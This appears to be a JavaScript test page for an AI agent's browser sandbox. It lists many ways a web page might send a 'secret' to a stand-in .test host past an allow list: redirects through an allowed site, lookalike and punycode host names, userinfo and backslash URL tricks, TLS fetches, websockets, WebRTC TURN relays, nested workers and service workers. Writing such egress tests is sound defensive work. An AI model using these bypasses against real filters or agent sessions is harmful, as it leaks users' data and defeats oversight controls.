// More that a page may try in an agent's browser, beside what exfiltration.js has. `host` is a name of this try alone.
Object.assign(tries, {
  // --- by way of a site that is allowed
  redirect_fetch: (c) => fetch("/to?" + encodeURIComponent(c.http), { mode: "no-cors" }),
  redirect_post: (c) => fetch("/to307?" + encodeURIComponent(c.http), { method: "POST", mode: "no-cors", body: "secret" }),
  redirect_image: (c) => { new Image().src = "/to?" + encodeURIComponent(c.http); },
  redirect_frame: (c) => add(`<iframe src="/to?${encodeURIComponent(c.http)}"></iframe>`),
  redirect_script: (c) => made("script", { src: "/to?" + encodeURIComponent(c.http) }),
  redirect_twice: (c) => fetch("/to?" + encodeURIComponent("/to?" + encodeURIComponent(c.http)), { mode: "no-cors" }),
  redirect_other_scheme: (c) => { new Image().src = "/to?" + encodeURIComponent(`https://${c.host}/`); },
  refresh_header: (c) => add(`<iframe src="/refresh?${encodeURIComponent(c.http)}"></iframe>`),
  link_header: (c) => add(`<iframe src="/linked?${encodeURIComponent(c.http)}"></iframe>`),
  // --- names that look like the allowed one
  twin_below: (c) => { new Image().src = `http://shop.test.${c.host}/`; },
  twin_punycode: (c) => { new Image().src = `http://sh\u043ep.test.${c.host}/`; },
  twin_dot: (c) => { new Image().src = `http://shop.test\u3002${c.host}/`; },
  twin_case: (c) => { new Image().src = `HTTP://SHOP.TEST.${c.host.toUpperCase()}/`; },
  twin_backslash: (c) => add(`<iframe src="http:\\\\${c.host}\\@shop.test/"></iframe>`),
  twin_userinfo: (c) => add(`<iframe src="http://shop.test@${c.host}/"></iframe>`),
  twin_no_scheme: (c) => { new Image().src = `//${c.host}/`; },
  last_dot: (c) => { new Image().src = `http://${c.host}./`; },
  // --- over TLS
  https_fetch: (c) => fetch(`https://${c.host}/`, { mode: "no-cors" }),
  https_image: (c) => { new Image().src = `https://${c.host}/`; },
  https_frame: (c) => add(`<iframe src="https://${c.host}/"></iframe>`),
  https_beacon: (c) => navigator.sendBeacon(`https://${c.host}/`, "secret"),
  secure_websocket: (c) => new WebSocket(`wss://${c.host}/`),
  // --- others
  websocket_by_https: (c) => new WebSocket(`https://${c.host}/`),
  name_in_the_host: (c) => fetch(`http://secret-in-the-name.${c.host}/`, { mode: "no-cors" }),
  worker_in_worker: (c) => new Worker(blob(`new Worker(URL.createObjectURL(new Blob([${JSON.stringify(`fetch("${c.http}",{mode:"no-cors"})`)}])))`)),
  webrtc_turns: (c) => ring(window, c, { urls: `turns:${c.host}:443?transport=tcp`, username: "secret", credential: "x" }),
  worker_from_service: (c) => navigator.serviceWorker.register("/service.js?" + encodeURIComponent(c.http)),
});
addEventListener("load", async () => {
  const asked = new URLSearchParams(location.search);
  const name = asked.get("try");
  const host = `${name.replaceAll("_", "-")}.${asked.get("side")}.test`;
  try {
    const http = `${location.protocol}//${host}/`;
    await tries[name]({ host, http, socket: http.replace("http", "ws"), dns: http });
  } catch (refused) {
    document.title = String(refused);
  }
});
